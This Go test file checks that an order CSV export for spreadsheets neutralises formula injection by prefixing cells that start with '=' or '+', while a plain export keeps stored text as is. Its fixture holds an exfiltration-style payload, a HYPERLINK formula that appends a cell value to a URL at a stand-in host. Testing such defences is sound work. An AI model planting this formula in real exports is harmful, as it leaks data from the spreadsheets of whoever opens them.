package admin

import (
	"strings"
	"testing"

	"waybill/server/wire"
)

func TestAnExportForASpreadsheetCalculatesNothingAndKeepsItsLetters(t *testing.T) {
	note := "=HYPERLINK(\"http://x.example/?\"&A2,\"Müller\")"
	orders := []*wire.Order{{
		Number: "A-000001", CustomerID: "K1", Note: note,
		Lines: []wire.OrderLineRecord{{OrderLine: wire.OrderLine{ProductID: "P1", Quantity: 2, UnitPriceMinor: 100, Currency: "EUR"}}},
	}}
	n := names{users: map[string]string{}, customers: map[string]string{"K1": "+49 Bäcker"}, products: map[string]string{"P1": "P-1"}}
	var forExcel, forERP strings.Builder
	if err := writeCSV(&forExcel, excel, orders, n); err != nil {
		t.Fatal(err)
	}
	if err := writeCSV(&forERP, plain, orders, n); err != nil {
		t.Fatal(err)
	}
	got := forExcel.String()
	if !strings.HasPrefix(got, "\ufeffnumber;") || !strings.Contains(got, `"'=HYPERLINK(`) || !strings.Contains(got, ";'+49 Bäcker;") {
		t.Errorf("for a spreadsheet:\n%s", got)
	}
	if got := forERP.String(); !strings.HasPrefix(got, "number,") || !strings.Contains(got, `"=HYPERLINK(`) || !strings.Contains(got, ",+49 Bäcker,") {
		t.Errorf("for a program the texts are other than stored:\n%s", got)
	}
}
